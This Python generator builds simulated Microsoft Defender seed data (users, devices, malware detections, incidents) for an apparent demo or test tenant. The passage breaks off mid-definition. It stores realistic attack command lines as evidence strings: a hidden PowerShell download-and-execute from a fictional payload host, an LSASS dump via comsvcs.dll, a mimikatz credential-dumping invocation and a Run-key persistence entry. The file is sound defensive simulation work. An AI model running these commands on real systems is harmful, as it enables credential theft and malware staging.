#!/usr/bin/env python3
"""Deterministic generator for the tenant-sim demo seed.

Usage:  python3 gen_demo.py > demo.json

Stdlib only; all randomness comes from random.Random(20261128), so the output
is byte-for-byte reproducible.  Object shapes follow the documented examples in
contract/defender-api/*.json (see the consistency asserts at the bottom).
"""
import base64
import json
import sys
import uuid
from datetime import datetime, timedelta, timezone
from urllib.parse import urlparse

import random

rng = random.Random(20261128)

TENANT_ID = "4a6f2e1c-8d3b-4c7a-9e5f-2b1d0c9a8e7f"
NOW = datetime(2026, 11, 28, 0, 0, 0)  # simulator "now" (late Nov 2026)
HUNT_START = NOW - timedelta(days=20)
DOMAIN = "contoso"
SID_PREFIX = "S-1-5-21-1004336348-1177238915-682003330"


# ----------------------------------------------------------------- helpers
def hexs(n):
    return "%0*x" % (n, rng.getrandbits(4 * n))


def guid():
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def iso(dt, whole=False):
    """ISO 8601 UTC with 'Z'.  7 fractional digits like the MDE docs."""
    if whole:
        return dt.strftime("%Y-%m-%dT%H:%M:%SZ")
    return dt.strftime("%Y-%m-%dT%H:%M:%S.%f") + str((dt.microsecond * 7) % 10) + "Z"


def jitter(dt, lo_s, hi_s):
    return dt + timedelta(seconds=rng.randint(lo_s, hi_s), microseconds=rng.randrange(10**6))


def ticks(dt):
    return int((dt - datetime(1, 1, 1)).total_seconds()) * 10**7 + dt.microsecond * 10


def mde_alert_id(dt):
    n = rng.randint(-2**31, 2**31 - 1)
    return "da%d_%d" % (ticks(dt), n)


def camel(s):
    return s[:1].lower() + s[1:] if s else s


# ----------------------------------------------------------------- users
PEOPLE = [
    # account, display name, rid, domain admin
    ("jdoe", "John Doe", 4411, False),
    ("mgarcia", "Maria Garcia", 4412, False),
    ("kpatel", "Kiran Patel", 4419, False),
    ("lchen", "Li Chen", 4425, False),
    ("sroberts", "Sarah Roberts", 3307, False),
    ("tnguyen", "Thanh Nguyen", 3318, False),
    ("dkim", "Daniel Kim", 5120, False),
    ("asmith", "Alex Smith", 5133, False),
    ("rjohnson", "Rachel Johnson", 5147, False),
    ("emartin", "Emma Martin", 6021, False),
    ("bwilson", "Ben Wilson", 6034, False),
    ("hd-mwright", "Helpdesk - Mark Wright", 2210, False),
    ("adm-jlee", "Admin - Jason Lee", 1107, True),
    ("svc-sql", "SQL Service", 1301, False),
    ("svc-backup", "Backup Service", 1302, False),
]
USERS = {}
for acct, disp, rid, adm in PEOPLE:
    USERS[(DOMAIN, acct)] = {
        "accountName": acct,
        "domainName": DOMAIN,
        "displayName": disp,
        "userSid": "%s-%d" % (SID_PREFIX, rid),
        "aadUserId": None if acct.startswith("svc-") else guid(),
        "upn": None if acct.startswith("svc-") else "%s@contoso.com" % acct,
        "isDomainAdmin": adm,
    }


def local_user(host, acct, disp):
    USERS[(host, acct)] = {
        "accountName": acct, "domainName": host, "displayName": disp,
        "userSid": None, "aadUserId": None, "upn": None, "isDomainAdmin": False,
    }


# ----------------------------------------------------------------- machines
RBAC = {
    "fin": (1041, "Finance Workstations"),
    "ws": (1042, "Corporate Workstations"),
    "t0": (1043, "Servers - Tier 0"),
    "t1": (1044, "Servers - Tier 1"),
    "lnx": (1045, "Linux Servers"),
    "mac": (1046, "macOS Devices"),
}
OS = {
    "w10": ("Windows10", "22H2", 19045),
    "w11": ("Windows11", "23H2", 22631),
    "w11b": ("Windows11", "24H2", 26100),
    "s19": ("WindowsServer2019", "1809", 17763),
    "s22": ("WindowsServer2022", "21H2", 20348),
    "mac14": ("macOS", "14.7", None),
    "mac15": ("macOS", "15.1", None),
    "ubu": ("Linux", "22.04", None),
    "rhel": ("Linux", "9.4", None),
}
# name, os, rbac, deviceValue, health, aadJoined, tags, logon users [(domain|None=host, acct, logonTypes)]
MACHINE_SPECS = [
    ("ws-fin-011", "w11", "fin", "High", "Active", True, ["Finance", "Floor3"], [(DOMAIN, "mgarcia", "Interactive"), (DOMAIN, "hd-mwright", "RemoteInteractive")]),
    ("ws-fin-014", "w11", "fin", "High", "Active", True, ["Finance", "Floor3", "VIP"], [(DOMAIN, "jdoe", "Interactive"), (DOMAIN, "hd-mwright", "RemoteInteractive")]),
    ("ws-fin-017", "w10", "fin", "High", "Active", True, ["Finance", "Floor3"], [(DOMAIN, "lchen", "Interactive")]),
    ("ws-fin-022", "w11b", "fin", "High", "Active", True, ["Finance", "Floor4"], [(DOMAIN, "kpatel", "Interactive"), (DOMAIN, "lchen", "Interactive")]),
    ("ws-hr-003", "w11", "ws", "Normal", "Active", True, ["HR"], [(DOMAIN, "sroberts", "Interactive")]),
    ("ws-hr-008", "w10", "ws", "Normal", "Active", True, ["HR"], [(DOMAIN, "tnguyen", "Interactive"), (DOMAIN, "hd-mwright", "RemoteInteractive")]),
    ("ws-eng-031", "w11b", "ws", "Normal", "Active", True, ["Engineering"], [(DOMAIN, "dkim", "Interactive")]),
    ("ws-eng-042", "w11", "ws", "Normal", "Active", True, ["Engineering"], [(DOMAIN, "asmith", "Interactive")]),
    ("ws-eng-047", "w10", "ws", "Low", "Inactive", True, ["Engineering", "Loaner"], [(DOMAIN, "rjohnson", "Interactive")]),
    ("ws-sales-005", "w11", "ws", "Normal", "Active", True, ["Sales"], [(DOMAIN, "emartin", "Interactive")]),
    ("ws-sales-012", "w10", "ws", "Normal", "ImpairedCommunication", True, ["Sales"], [(DOMAIN, "bwilson", "Interactive")]),
    ("srv-dc-01", "s22", "t0", "High", "Active", False, ["Tier0", "DomainController"], [(DOMAIN, "adm-jlee", "RemoteInteractive"), (DOMAIN, "svc-backup", "Network")]),
    ("srv-dc-02", "s22", "t0", "High", "Active", False, ["Tier0", "DomainController"], [(DOMAIN, "adm-jlee", "RemoteInteractive")]),
    ("srv-sql-01", "s19", "t1", "High", "Active", False, ["SQL", "Production"], [(DOMAIN, "adm-jlee", "RemoteInteractive"), (DOMAIN, "svc-sql", "Service")]),
    ("srv-sql-02", "s22", "t1", "High", "Active", False, ["SQL", "Production", "Azure"], [(DOMAIN, "svc-sql", "Service"), (DOMAIN, "adm-jlee", "RemoteInteractive"), (DOMAIN, "svc-backup", "Network")]),
    ("srv-file-01", "s19", "t1", "Normal", "Active", False, ["FileServer"], [(DOMAIN, "adm-jlee", "RemoteInteractive"), (DOMAIN, "svc-backup", "Network")]),
    ("srv-app-03", "s22", "t1", "Normal", "Active", False, ["AppServer", "Azure"], [(DOMAIN, "adm-jlee", "RemoteInteractive")]),
    ("srv-exch-01", "s19", "t1", "High", "NoSensorData", False, ["Exchange", "Legacy"], [(DOMAIN, "adm-jlee", "RemoteInteractive")]),
    ("mac-design-01", "mac15", "mac", "Normal", "Active", True, ["Design"], [(None, "olivia", "Interactive")]),
    ("mac-design-03", "mac14", "mac", "Normal", "Active", True, ["Design"], [(None, "nwhite", "Interactive")]),
    ("mac-exec-02", "mac15", "mac", "High", "Active", True, ["Executive", "VIP"], [(None, "cthompson", "Interactive")]),
    ("lnx-web-01", "ubu", "lnx", "High", "Active", False, ["Web", "DMZ", "Azure"], [(None, "deploy", "Network"), (None, "root", "Interactive")]),
    ("lnx-web-02", "ubu", "lnx", "High", "Active", False, ["Web", "DMZ", "Azure"], [(None, "deploy", "Network")]),
    ("lnx-build-01", "rhel", "lnx", "Normal", "Active", False, ["CI"], [(None, "jenkins", "Network"), (None, "root", "Interactive")]),
    ("lnx-db-01", "rhel", "lnx", "Normal", "Inactive", False, ["Database"], [(None, "postgres", "Network")]),
]
LOCAL_NAMES = {"olivia": "Olivia Brown", "nwhite": "Nina White", "cthompson": "Chris Thompson",
               "deploy": "deploy", "root": "root", "jenkins": "jenkins", "postgres": "postgres"}

EGRESS = ["20.84.121.17", "20.84.121.18", "131.107.160.44"]
machines = []
MBY = {}  # short name -> machine dict
M_EXTRA = {}  # short name -> extra info (users, os key, macs)
subnet = {"fin": 20, "ws": 30, "t0": 10, "t1": 11, "lnx": 12, "mac": 40}
for idx, (name, oskey, grp, dval, health, aad, tags, lusers) in enumerate(MACHINE_SPECS):
    plat, ver, build = OS[oskey]
    gid, gname = RBAC[grp]
    if grp in ("t0", "t1"):
        ip = "10.10.%d.%d" % (subnet[grp], 10 + idx)
    else:
        ip = "10.20.%d.%d" % (subnet[grp], rng.randint(20, 240))
    if "Azure" in tags:
        ext = "52.170.%d.%d" % (rng.randint(1, 254), rng.randint(1, 254))
    else:
        ext = rng.choice(EGRESS)
    first = datetime(2026, 9, 1) + timedelta(days=rng.randint(0, 40), seconds=rng.randint(0, 86399),
                                             microseconds=rng.randrange(10**6))
    if health == "Active":
        last = NOW - timedelta(seconds=rng.randint(300, 40 * 3600), microseconds=rng.randrange(10**6))
    elif health == "ImpairedCommunication":
        last = NOW - timedelta(days=1, seconds=rng.randint(3600, 20 * 3600))
    elif health == "NoSensorData":
        last = NOW - timedelta(days=4, seconds=rng.randint(0, 86399))
    else:  # Inactive: not seen for > 7 days
        last = datetime(2026, 10, 20) + timedelta(days=rng.randint(0, 15), seconds=rng.randint(0, 86399))
    mac = "".join(rng.choice("0123456789ABCDEF") for _ in range(12))
    ipaddrs = [{"ipAddress": ip, "macAddress": mac, "operationalStatus": "Up"}]
    if plat.startswith("Windows"):
        ipaddrs.append({"ipAddress": "fe80::%x:%x:%x:%x" % tuple(rng.getrandbits(16) for _ in range(4)),
                        "macAddress": mac, "operationalStatus": "Up"})
    m = {
        "id": hexs(40),
        "computerDnsName": "%s.contoso.com" % name,
        "firstSeen": iso(first),
        "lastSeen": iso(last),
        "osPlatform": plat,
        "version": ver,
        "osProcessor": "x64",
        "lastIpAddress": ip,
        "lastExternalIpAddress": ext,
        "osBuild": build,
        "healthStatus": health,
        "deviceValue": dval,
        "rbacGroupId": gid,
        "rbacGroupName": gname,
        "riskScore": "None",
        "exposureLevel": rng.choice(["Low", "Medium", "Medium", "High"]) if plat != "macOS" else "Low",
        "isAadJoined": aad,
        "aadDeviceId": guid() if aad else None,
        "machineTags": list(tags),
        "ipAddresses": ipaddrs,
    }
    machines.append(m)
    MBY[name] = m
    ulist = []
    for dom, acct, lt in lusers:
        d = dom or name
        if dom is None:
            local_user(name, acct, LOCAL_NAMES[acct])
        ulist.append((USERS[(d, acct)], lt))
    M_EXTRA[name] = {"users": ulist, "first": first, "last": last, "oskey": oskey}

# ----------------------------------------------------------------- files
FILES = {}  # key -> file info


def add_file(key, name, folder, size, publisher=None, product=None, signer=None, issuer=None,
             valid=None, pe=True, ftype=None, det=("Unknown", None), gprev=None, gfirst=None,
             verdict="unknown"):
    FILES[key] = {
        "name": name, "folder": folder, "sha1": hexs(40), "sha256": hexs(64), "md5": hexs(32),
        "size": size, "publisher": publisher, "product": product, "signer": signer,
        "issuer": issuer, "signerHash": hexs(40) if signer else None, "valid": valid, "pe": pe,
        "ftype": ftype, "detType": det[0], "detValue": det[1],
        "gprev": gprev if gprev is not None else rng.randint(1, 40),
        "gfirst": gfirst or (NOW - timedelta(days=rng.randint(20, 60), seconds=rng.randint(0, 86399))),
        "verdict": verdict,
    }


MS = dict(publisher="Microsoft Corporation", signer="Microsoft Windows", issuer="Microsoft Windows Production PCA 2011", valid=True)
MSO = dict(publisher="Microsoft Corporation", signer="Microsoft Corporation", issuer="Microsoft Code Signing PCA 2011", valid=True)
OLD = datetime(2019, 3, 14, 2, 11, 7)
add_file("powershell", "powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0", 450560, product="Microsoft® Windows® Operating System", gprev=9876543, gfirst=OLD, **MS)
add_file("excel", "EXCEL.EXE", r"C:\Program Files\Microsoft Office\root\Office16", 65782184, product="Microsoft Office", gprev=4567123, gfirst=OLD, **MSO)
add_file("winword", "WINWORD.EXE", r"C:\Program Files\Microsoft Office\root\Office16", 1637344, product="Microsoft Office", gprev=5123987, gfirst=OLD, **MSO)
add_file("outlook", "OUTLOOK.EXE", r"C:\Program Files\Microsoft Office\root\Office16", 43117432, product="Microsoft Office", gprev=3987112, gfirst=OLD, **MSO)
add_file("rundll32", "rundll32.exe", r"C:\Windows\System32", 71680, product="Microsoft® Windows® Operating System", gprev=9912345, gfirst=OLD, **MS)
add_file("cmd", "cmd.exe", r"C:\Windows\System32", 323584, product="Microsoft® Windows® Operating System", gprev=9934567, gfirst=OLD, **MS)
add_file("certutil", "certutil.exe", r"C:\Windows\System32", 1651712, product="Microsoft® Windows® Operating System", gprev=8723456, gfirst=OLD, **MS)
add_file("sqlservr", "sqlservr.exe", r"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn", 482208, product="Microsoft SQL Server", gprev=212344, gfirst=OLD, **MSO)
add_file("vssadmin", "vssadmin.exe", r"C:\Windows\System32", 139264, product="Microsoft® Windows® Operating System", gprev=9012345, gfirst=OLD, **MS)
add_file("psexesvc", "PSEXESVC.exe", r"C:\Windows", 195064, publisher="Sysinternals - www.sysinternals.com", product="Sysinternals PsExec", signer="Microsoft Corporation", issuer="Microsoft Code Signing PCA 2011", valid=True, gprev=301223, gfirst=OLD)
add_file("msedge", "msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application", 4050344, product="Microsoft Edge", gprev=8812345, gfirst=OLD, **MSO)
# phishing / C2 campaign
add_file("xlsm", "Q4_Remittance_Advice.xlsm", r"C:\Users\{user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\8KX2ZQ1M", 48213, pe=False, ftype="Document",
         det=("Malware", "TrojanDownloader:O97M/Donoff.RV!MTB"), gprev=14, verdict="malicious")
add_file("stageps1", "update.ps1", r"C:\Users\{user}\AppData\Roaming\MsUpdate", 6214, pe=False, ftype="Script",
         det=("Malware", "TrojanDownloader:PowerShell/Ploty.C"), gprev=9, verdict="malicious")
add_file("beacon", "msupd.dll", r"C:\Users\{user}\AppData\Roaming\MsUpdate", 303616,
         det=("Malware", "Backdoor:Win64/CobaltStrike.NP!dha"), gprev=3, verdict="malicious")
add_file("mimikatz", "mimikatz.exe", r"C:\Temp\tools", 1309448, publisher="gentilkiwi (Benjamin DELPY)", product="mimikatz",
         det=("Malware", "HackTool:Win64/Mimikatz.D"), gprev=18234, gfirst=datetime(2020, 9, 19, 3, 51, 27), verdict="malicious")
add_file("pua", "FreePDFConverterSetup.exe", r"C:\Users\{user}\Downloads", 2873344, publisher="InstallCore Ltd", product="Free PDF Converter",
         signer="InstallCore Ltd", issuer="DigiCert SHA2 Assured ID Code Signing CA", valid=False,
         det=("Pua", "PUA:Win32/InstallCore"), gprev=2311, verdict="suspicious")
add_file("eicar", "eicar.com", r"C:\Users\{user}\Downloads", 68, pe=False, ftype="Executable",
         det=("Malware", "Virus:DOS/EICAR_Test_File"), gprev=998877, gfirst=datetime(2017, 2, 1, 9, 0, 1), verdict="malicious")
add_file("locker", "svcupdate.exe", r"C:\ProgramData\svcupdate", 897024,
         det=("Malware", "Ransom:Win64/BlackCat.MA!MTB"), gprev=6, verdict="malicious")
add_file("jsdrop", "invoice_8812.js", r"C:\Users\{user}\AppData\Local\Temp", 12877, pe=False, ftype="Script",
         det=("Malware", "TrojanDownloader:JS/Nemucod.AS"), gprev=41, verdict="malicious")
add_file("svchelper", "svchelper.exe", r"C:\Windows\Temp", 512000,
         det=("Malware", "Trojan:Win64/Meterpreter.E"), gprev=77, verdict="malicious")
add_file("webshell", "cmd.php", "/var/www/html/uploads", 2214, pe=False, ftype="Script",
         det=("Malware", "Backdoor:PHP/WebShell.B"), gprev=120, verdict="malicious")
add_file("bash", "bash", "/usr/bin", 1396520, pe=False, ftype="Executable", gprev=7654321, gfirst=OLD)
add_file("apache2", "apache2", "/usr/sbin", 725472, pe=False, ftype="Executable", gprev=1234567, gfirst=OLD)
add_file("curl", "curl", "/usr/bin", 260328, pe=False, ftype="Executable", gprev=6543210, gfirst=OLD)
add_file("miner", "kdevtmpfsi", "/tmp/.X11-cache", 6133912, pe=False, ftype="Executable",
         det=("Malware", "Trojan:Linux/CoinMiner.K"), gprev=5310, verdict="malicious")
add_file("adload", "mdworker_local", "/Users/{user}/Library/Application Support/.mdworker", 188432, pe=False, ftype="Executable",
         det=("Malware", "Trojan:MacOS/Adload.B"), gprev=2904, verdict="malicious")
add_file("zsh", "zsh", "/bin", 1336208, pe=False, ftype="Executable", gprev=2345678, gfirst=OLD)

C2_IP = "45.137.21.9"
C2_HOST = "cdn.update-msft-telemetry.com"
C2_URL = "https://%s/api/v2/beacon" % C2_HOST
PAYLOAD_HOST = "files-share-docs.top"
PAYLOAD_URL = "https://%s/dl/stage.ps1" % PAYLOAD_HOST
PHISH_URL = "https://contoso-payroll.sharepoint-docs.net/invoice/INV-88231.html"
STAGE_CMD = ("powershell.exe -nop -w hidden -ep bypass -c \"iwr %s -OutFile $env:appdata\\MsUpdate\\update.ps1; "
             "& $env:appdata\\MsUpdate\\update.ps1\"" % PAYLOAD_URL)
RUN_PS1_CMD = "powershell.exe -nop -w hidden -ep bypass -File \"%appdata%\\MsUpdate\\update.ps1\""
BEACON_CMD = "rundll32.exe \"%appdata%\\MsUpdate\\msupd.dll\",DllRegisterServer"
LSASS_CMD = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 744 C:\\Users\\Public\\lsass.dmp full"
WEB_IP = "194.26.29.113"
MINER_IP = "185.220.101.47"
MINER_HOST = "pool.supportxmr.net"
ADLOAD_HOST = "api.searchmarquis.online"
INDICATOR_IP = "91.215.85.142"
INDICATOR_HOST = "docs-view-secure.online"
SQL_IP = "80.66.88.207"
RDP_SCAN_IP = "92.63.197.153"

# ----------------------------------------------------------------- alert templates
DETECTORS = {}


def detector(title):
    if title not in DETECTORS:
        DETECTORS[title] = guid()
    return DETECTORS[title]


REC = ("Collect artifacts and determine scope\n- Review the device timeline for suspicious activities before and after the alert.\n"
       "- Look for the presence of relevant artifacts on other systems.\n\nInitiate containment & mitigation\n"
       "- Contact the user to verify intent and initiate local remediation actions as needed.\n"
       "- Update AV signatures and run a full scan.\n- If credential theft is suspected, reset all relevant users' passwords.\n"
       "- Block communication with relevant URLs or IPs at the organization's perimeter.")

# The generic texts Defender Antivirus gives its detections.
MALWARE = ("Malware and unwanted software are undesirable applications that perform annoying, disruptive, "
           "or harmful actions on affected machines.")
BACKDOOR = "Backdoors are malicious remote access tools that allow attackers to access and control infected machines."


def edr(title, category, severity, mitre, desc, source="WindowsDefenderAtp"):
    """An alert template of an EDR (behavioural) detection."""
    return dict(title=title, category=category, severity=severity, source=source, mitre=mitre, desc=desc)


def av(title, threat, severity, category="Malware", mitre=(), desc=MALWARE):
    """An alert template of a Defender Antivirus detection: a named threat, the generic text unless told."""
    return dict(title=title, category=category, severity=severity, source="WindowsDefenderAv", mitre=list(mitre),
                threat=threat, desc=desc)


T = {
    "office_child": edr("Suspicious process launched by an Office application", "Execution", "Medium", ["T1204.002", "T1059.001"], "An Office application spawned a scripting engine. Malicious documents commonly abuse macros to launch PowerShell and download additional payloads."),
    "ps_download": edr("Suspicious PowerShell download or encoded command execution", "Execution", "High", ["T1059.001", "T1105", "T1027"], "A PowerShell process downloaded content from the internet and executed it from the user's AppData folder. This technique is commonly used by downloaders to stage malware."),
    "malicious_doc": av("Malicious document 'Donoff' was detected", "Donoff", "Medium"),
    "beacon_av": av("An active 'CobaltStrike' backdoor was detected", "CobaltStrike", "High", mitre=["T1218.011"], desc=BACKDOOR + " Because this malware was active, take precautionary measures and check for residual signs of infection."),
    "c2": edr("Communication with a known command-and-control server", "CommandAndControl", "High", ["T1071.001", "T1573"], "A process on this device communicated with a host that is associated with command-and-control infrastructure. The device might be remotely controlled by an attacker."),
    "persistence": edr("Anomaly detected in ASEP registry", "Persistence", "Medium", ["T1547.001"], "A process registered a suspicious command or file in an autostart extensibility point (ASEP) registry key so that it runs after reboot."),
    "lsass": edr("Suspicious access to LSASS service", "CredentialAccess", "High", ["T1003.001"], "A process accessed the memory of the Local Security Authority Subsystem Service (LSASS), possibly to dump credentials."),
    "mimikatz": av("'Mimikatz' hacktool was detected", "Mimikatz", "Low", desc="Readily available tools, such as hacking programs, can be used by unauthorized individuals to spy on users. This detection might indicate that Microsoft Defender Antivirus has stopped the tool from being used."),
    "mimikatz_cred": edr("Malicious credential theft tool execution detected", "CredentialAccess", "High", ["T1003", "T1003.001"], "A known credential theft tool execution command line was detected."),
    "pua": av("'InstallCore' unwanted software was detected", "InstallCore", "Low", category="UnwantedSoftware", desc="Potentially unwanted applications (PUA) are applications that exhibit behaviors that might otherwise degrade the performance or use of the device."),
    "eicar": av("'EICAR_Test_File' malware was prevented", "EICAR_Test_File", "Informational", desc="The EICAR test file was detected and blocked. This file is used to test anti-malware products and is not harmful."),
    "psexec": edr("Possible lateral movement using remote service creation", "LateralMovement", "Medium", ["T1021.002", "T1569.002"], "A remote service was created on this device by another device. Attackers use tools like PsExec to move laterally."),
    "ransom_vss": edr("File backups were deleted", "Impact", "High", ["T1490"], "Volume shadow copies were deleted. Ransomware commonly deletes backups before encrypting files."),
    "ransom_av": av("Ransomware 'BlackCat' was prevented", "BlackCat", "High", category="Ransomware", mitre=["T1486"], desc="Ransomware was detected and prevented from running. Investigate how the ransomware reached the device."),
    "ransom_behav": edr("Possible ransomware activity", "Impact", "High", ["T1486"], "A process modified a large number of files and renamed them with an unusual extension, which is consistent with ransomware encryption."),
    "asr": edr("An Office application was blocked from creating executable content", "Execution", "Low", ["T1204.002"], "An attack surface reduction rule blocked an Office application from writing script content to disk."),
    "asr_js": av("'Nemucod' malware was blocked", "Nemucod", "Medium"),
    "miner": edr("Cryptocurrency mining activity detected", "Execution", "Medium", ["T1496"], "A process connected to a cryptocurrency mining pool and consumed significant CPU. Unauthorized mining degrades performance and increases costs."),
    "miner_av": av("'CoinMiner' malware was detected", "CoinMiner", "Medium"),
    "miner_dl": edr("Suspicious file downloaded and executed from a temporary folder", "Execution", "Medium", ["T1105", "T1059.004"], "A shell process downloaded a file into a hidden temporary folder and executed it."),
    "adload": av("'Adload' malware was detected", "Adload", "Medium"),
    "mac_launchagent": edr("Suspicious launch agent created", "Persistence", "Medium", ["T1543.001"], "A hidden binary registered a launch agent so that it runs at every logon."),
    "mac_c2": edr("Suspicious connection to an adware distribution host", "CommandAndControl", "Low", ["T1071.001"], "A process connected to a host associated with adware distribution."),
    "sql_cmd": edr("Suspicious SQL Server child process", "Execution", "High", ["T1059.003", "T1505.001"], "The SQL Server process spawned a command shell, which may indicate abuse of xp_cmdshell."),
    "certutil": edr("Suspicious file download using certutil", "DefenseEvasion", "Medium", ["T1105", "T1140"], "certutil.exe was used to download a file from the internet. Attackers abuse this signed binary to bypass defenses."),
    "meterpreter": av("Suspicious 'Meterpreter' behavior was detected", "Meterpreter", "High", category="SuspiciousActivity", mitre=["T1055"]),
    "sql_brute": edr("Suspicious sequence of exploration activities", "Discovery", "Medium", ["T1087", "T1082", "T1016"], "A process ran a sequence of reconnaissance commands commonly used by attackers to learn about the environment."),
    "webshell": edr("Possible web shell installation", "Persistence", "High", ["T1505.003"], "A file with web shell characteristics was written to a web server content directory."),
    "webshell_av": av("'WebShell' backdoor was detected", "WebShell", "High", desc=BACKDOOR),
    "web_child": edr("Suspicious process executed by a web server", "Execution", "High", ["T1059.004", "T1190"], "The web server process spawned a shell that ran reconnaissance and download commands."),
    "web_revshell": edr("Possible reverse shell connection", "CommandAndControl", "High", ["T1059.004", "T1071"], "A shell process opened an outbound connection to an external address and redirected its input and output."),
    "custom_ti": edr("Connection to a custom network indicator", "CommandAndControl", "Medium", [], "A device connected to a network address that matches a custom indicator defined by your organization.", source="CustomerTI"),
    "smartscreen": edr("Suspicious URL clicked", "InitialAccess", "Medium", ["T1566.002"], "A user clicked a URL that SmartScreen classifies as phishing.", source="WindowsDefenderSmartScreen"),
}


# ----------------------------------------------------------------- alerts
alerts = []
incidents_meta = []  # dicts filled below
ALERT_CTX = {}  # alert id -> dict(machine name, user, evidence descriptors ...)


def user_path(folder, user):
    return folder.replace("{user}", user["accountName"] if user else "Public")


def ev_blank(kind, t):
    return {
        "entityType": kind, "evidenceCreationTime": iso(t), "sha1": None, "sha256": None, "fileName": None,
        "filePath": None, "processId": None, "processCommandLine": None, "processCreationTime": None,
        "parentProcessId": None, "parentProcessCreationTime": None, "parentProcessFileName": None,
        "parentProcessFilePath": None, "ipAddress": None, "url": None, "registryKey": None, "registryHive": None,
        "registryValueType": None, "registryValue": None, "accountName": None, "domainName": None,
        "userSid": None, "aadUserId": None, "userPrincipalName": None, "detectionStatus": None,
    }


def build_evidence(descs, t_ev, t_create, user, detstat):
    out = []
    for d in descs:
        kind = d[0]
        te = jitter(t_create, 0, 2)
        if kind == "user":
            if not user:
                continue
            e = ev_blank("User", te)
            e.update(accountName=user["accountName"], domainName=user["domainName"], userSid=user["userSid"],
                     aadUserId=user["aadUserId"], userPrincipalName=user["upn"])
        elif kind == "file":
            f = FILES[d[1]]
            e = ev_blank("File", te)
            e.update(sha1=f["sha1"], sha256=f["sha256"], fileName=f["name"], filePath=user_path(f["folder"], user),
                     detectionStatus=detstat if f["verdict"] == "malicious" or f["detType"] == "Pua" else None)
        elif kind == "proc":
            _, key, cmd, pkey = d
            f, pf = FILES[key], FILES[pkey]
            pstart = t_ev - timedelta(seconds=rng.randint(2, 600))
            e = ev_blank("Process", te)
            e.update(sha1=f["sha1"], sha256=f["sha256"], fileName=f["name"], filePath=user_path(f["folder"], user),
                     processId=rng.randint(1000, 30000), processCommandLine=cmd,
                     processCreationTime=iso(t_ev), parentProcessId=rng.randint(600, 20000),
                     parentProcessCreationTime=iso(pstart), parentProcessFileName=pf["name"],
                     parentProcessFilePath=user_path(pf["folder"], user), detectionStatus="Detected")
            e["_parentKey"] = pkey
            e["_fileKey"] = key
        elif kind == "ip":
            e = ev_blank("Ip", te)
            e.update(ipAddress=d[1])
        elif kind == "url":
            e = ev_blank("Url", te)
            e.update(url=d[1])
        elif kind == "reg":
            e = ev_blank("Registry", te)
            e.update(registryHive=d[1], registryKey=d[2], registryValueType=d[3], registryValue=d[4])
        else:
            raise ValueError(kind)
        if kind == "file":
            e["_fileKey"] = d[1]
        out.append(e)
    return out


# incident definitions: (key, name, [ (machine, template, evidence descriptors, offset minutes from incident start) ], start, outcome)
def E_user():
    return ("user",)


INCIDENT_DEFS = []


def inc(key, name, start, outcome, items, assigned=None, tags=(), comments=()):
    INCIDENT_DEFS.append(dict(key=key, name=name, start=start, outcome=outcome, items=items, assigned=assigned,
                              tags=list(tags), comments=list(comments)))


def phish_chain(host, base_min):
    return [
        (host, "smartscreen", [E_user(), ("url", PHISH_URL), ("proc", "msedge", "\"msedge.exe\" --single-argument " + PHISH_URL, "outlook")], base_min),
        (host, "malicious_doc", [E_user(), ("file", "xlsm")], base_min + 3),
        (host, "office_child", [E_user(), ("proc", "powershell", STAGE_CMD, "excel"), ("file", "xlsm")], base_min + 4),
        (host, "ps_download", [E_user(), ("proc", "powershell", STAGE_CMD, "excel"), ("url", PAYLOAD_URL), ("file", "stageps1")], base_min + 5),
        (host, "c2", [E_user(), ("proc", "rundll32", BEACON_CMD, "powershell"), ("ip", C2_IP), ("url", C2_URL), ("file", "beacon")], base_min + 9),
    ]


inc("phish", "Multi-stage incident involving Initial access & Command and control on multiple endpoints", datetime(2026, 11, 18, 9, 12), "active",
    phish_chain("ws-fin-014", 0)
    + [("ws-fin-014", "persistence", [E_user(), ("proc", "powershell", RUN_PS1_CMD, "powershell"),
                                      ("reg", "HKEY_CURRENT_USER", r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run", "String",
                                       "rundll32.exe \"%appdata%\\MsUpdate\\msupd.dll\",DllRegisterServer"), ("file", "beacon")], 12),
       ("ws-fin-014", "beacon_av", [E_user(), ("file", "beacon"), ("proc", "rundll32", BEACON_CMD, "powershell")], 40),
       ("ws-fin-014", "lsass", [E_user(), ("proc", "rundll32", LSASS_CMD, "powershell")], 310)]
    + phish_chain("ws-fin-011", 53)
    + [("ws-fin-011", "persistence", [E_user(), ("proc", "powershell", RUN_PS1_CMD, "powershell"),
                                      ("reg", "HKEY_CURRENT_USER", r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run", "String",
                                       "rundll32.exe \"%appdata%\\MsUpdate\\msupd.dll\",DllRegisterServer")], 66)]
    + phish_chain("ws-fin-022", 1408)[1:]
    + [("ws-fin-022", "beacon_av", [E_user(), ("file", "beacon"), ("proc", "rundll32", BEACON_CMD, "powershell")], 1430)],
    assigned="alice@contoso.com", tags=["Phishing", "Finance"],
    comments=[("Isolated ws-fin-014 and collected investigation package; checking other finance devices.", "alice@contoso.com", 150)])

inc("mimi", "'Mimikatz' hacktool was detected on one endpoint", datetime(2026, 10, 6, 14, 2), "testing",
    [("srv-app-03", "mimikatz", [E_user(), ("file", "mimikatz")], 0),
     ("srv-app-03", "mimikatz_cred", [E_user(), ("proc", "mimikatz", "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", "cmd"), ("file", "mimikatz")], 1),
     ("srv-app-03", "lsass", [E_user(), ("proc", "mimikatz", "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", "cmd")], 1)],
    assigned="alice@contoso.com", tags=["PenTest"],
    comments=[("Authorised red-team exercise RT-2026-10 (ticket SEC-4412).", "alice@contoso.com", 95)])

inc("eicar", "'EICAR_Test_File' malware was prevented on multiple endpoints", datetime(2026, 10, 14, 10, 31), "expected",
    [("ws-eng-031", "eicar", [E_user(), ("file", "eicar")], 0),
     ("ws-eng-042", "eicar", [E_user(), ("file", "eicar")], 7),
     ("ws-sales-012", "eicar", [E_user(), ("file", "eicar")], 19),
     ("ws-hr-003", "eicar", [E_user(), ("file", "eicar")], 26)],
    assigned="bob@contoso.com", tags=["AV-Test"])

inc("pua", "'InstallCore' unwanted software was detected on one endpoint", datetime(2026, 10, 21, 16, 45), "pua",
